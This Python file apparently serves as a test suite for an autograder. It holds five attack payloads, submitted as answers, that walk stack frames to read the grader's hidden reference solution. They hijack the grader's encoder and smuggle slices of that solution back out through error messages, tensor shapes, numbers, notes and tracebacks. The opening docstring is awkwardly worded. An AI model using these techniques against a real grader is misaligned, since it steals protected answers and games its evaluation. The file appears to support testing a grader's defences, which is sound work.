"""Our solution of another cell, which lies in the answer's process, is to travel into the feedback: a part a message.

Each attack is an answer that reads the supplied source and answers every question with `forged(op, i, part)`, where
`part` is another piece of that source each time. The same answer without it gets no points either.
"""

START = """
import base64, sys
import autograder.child.protocol as protocol
frame = sys._getframe()
while "supplied" not in frame.f_locals:
    frame = frame.f_back
ours = frame.f_locals["supplied"]["AdaGroupNorm"]
print("found", len(ours), "characters")
ours = ours[ours.index("def forward"):] + ours
encode, asked = protocol.encode, [0]

def error(kind="ValueError", text="no", cell="AdaResBlock", line=3, hidden=None):
    return encode({"error": {"kind": kind, "text": text, "cell": cell, "line": line, "hidden": hidden}})

def number(part, size):
    return int.from_bytes(part[:size].encode(), "big")

def answered(header, tensors=None):
    op = sys._getframe(1).f_locals["header"]["op"]
    if op == "load":
        return encode(header, tensors)
    asked[0] += 1
    try:
        return forged(op, asked[0] - 1, ours[60 * asked[0]:][:240])
    except Exception as e:
        print("failed", asked[0], e)
        return encode({"kinds": []})

protocol.encode = answered

class AdaResBlock(nn.Module):
    pass
"""
WORDS = """
def forged(op, i, part):
    return [
        lambda: error(text=part),
        lambda: error(text=base64.b64encode(part.encode()).decode()),
        lambda: error(text=part.encode().hex()),
        lambda: error(text=part[::-1]),
        lambda: error(kind="".join(c if c.isalnum() else "_" for c in part)[:59], text=str([*part.encode()])),
        lambda: error(cell=part[:80]),
        lambda: error(cell=part[:80].replace(" ", "_"), text="name '" + part + "' is not defined", kind="NameError"),
        lambda: error(text=part, hidden=True),
        lambda: error(text="`" + part[:50] + "` is imported from " + part[50:100] +
                      ", which holds the answer; write it yourself", hidden=True),
        lambda: error(text="mat1 and mat2 shapes cannot be multiplied (" + "x".join(map(str, part.encode())) + ")"),
        lambda: error(line=number(part, 7), text="index " + str(number(part, 7)) + " is out of bounds for dimension 0"),
    ][i % 11]()
"""
SHAPES = """
def forged(op, i, part):
    if op == "gradient":
        rows = {"x0": torch.ones(3, 32, 6, 6), "cond0": torch.ones(3, 24)}
        return encode({"reached": number(part, 6), "parameters": number(part, 7), "finite": True}, rows)
    if op == "parameters":
        return encode({"parameters": number(part, 7)})
    codes = list(part.encode())
    empty = torch.empty(0)
    return [
        lambda: encode({"kinds": [part[:40]]}),
        lambda: encode({"kinds": [part], "elsewhere": part}, {"out0": empty.reshape(0, *codes[:7])}),
        lambda: encode({"kinds": ["Tensor"]}, {"out0": torch.zeros(codes[0], 1, codes[1], 1, codes[2])}),
        lambda: encode({"kinds": ["Tensor"]}, {part[:80]: empty, "out0": empty.reshape(0, number(part, 6))}),
        lambda: encode({"kinds": [part], part[:80]: part}, {"in." + part[:80]: empty}),
        lambda: encode({"error": part}),
        lambda: encode({"error": {"kind": [part], "text": {part: part}, "cell": [part], "line": part}}),
        lambda: error(kind="NoneType", text=" ".join(part)),
    ][i % 8]()
"""
LOADING = """
import sys
frame = sys._getframe()
while "supplied" not in frame.f_locals:
    frame = frame.f_back
ours = frame.f_locals["supplied"]["AdaGroupNorm"]
print("found", len(ours), "characters")
"""
RAISED = """
exec(compile("\\n" * 300 + "raise ModuleNotFoundError(text)", "<" + ours[40:110] + ">", "exec"), {"text": ours[-240:]})
"""
NOTES = """
def forged(op, i, part):
    words, line = part.replace(" ", "_"), str(number(part, 7))
    notes = ["absent: " + words[:50], "left out: AdaResBlock " + line, "left out: " + words[:50] + " 3", [part]]
    notes += ["compiled: " + part[:50], "mode: " + part[:50], part]
    notes += [{"kind": "ValueError", "text": part, "cell": "AdaResBlock", "line": 3}]
    return encode({"kinds": [], "notes": notes, part[:60]: part})
"""
STOPPED = (
    LOADING
    + """
class AdaResBlock(nn.Module):
    pass
for word in ours.split():
    if word.isidentifier():
        try:
            __import__(word)
        except ImportError:
            pass
exec("import " + "".join(c for c in ours[60:110] if c.isalpha()))
exec(compile("\\n" * 300 + "raise KeyError(text)", "<cell " + ours[40:110] + ">", "exec"), {"text": ours[-240:]})
"""
)
ATTACKS = {
    "in words, texts, names, cells and lines": START + WORDS,
    "in kinds, shapes, numbers and names of tensors": START + SHAPES,
    "while the cell is loading": LOADING + RAISED,
    "in notes": START + NOTES,
    "where the cell breaks off": STOPPED,
}
